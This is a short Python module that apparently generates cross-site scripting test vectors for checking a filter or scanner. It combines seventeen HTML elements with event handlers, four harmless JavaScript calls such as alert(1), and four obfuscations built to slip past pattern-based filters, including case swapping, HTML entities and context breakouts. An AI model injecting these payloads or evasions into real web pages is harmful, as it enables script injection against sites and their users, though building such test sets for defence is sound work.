"""Attacks of our own that run in a browser as they stand: what shows that a run of none is no blindness of who looks."""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator

# An element that runs {} when it is parsed, laid out or focused.
ELEMENTS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    "<body onload={}>",
    "<details open ontoggle={}>a</details>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<button onfocus={}>a</button>",
    "<p tabindex=0 onfocus={}>a</p>",
    "<a href=x onfocus={}>a</a>",
    "<video><source onerror={} src=x></video>",
    "<audio src=x onerror={}></audio>",
    "<object data=x onerror={}></object>",
    "<style onload={}>a{{}}</style>",
    "<p onanimationstart={} style=animation:a><style>@keyframes a{{}}</style>",
)
CALLS = ("alert(1)", "confirm`1`", "self['al'+'ert'](1)", "top.print()")


def _entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


# How it is written, so that a rule that knows its usual look misses it.
DISGUISES: tuple[Callable[[str, str], str], ...] = (
    lambda element, call: element.format(call),
    lambda element, call: element.format(html.escape(call)).swapcase().replace(call.swapcase(), call),
    lambda element, call: element.replace(" ", "/").format(_entities(call)),
    lambda element, call: f'"></title><b>{element.replace(" ", chr(12)).format(call)}',
)


def vectors() -> Iterator[str]:
    """Yield every element with every call in every disguise; what a disguise breaks is left to the browser to say."""
    for element in ELEMENTS:
        for call in CALLS:
            for disguise in DISGUISES:
                yield disguise(element, call)
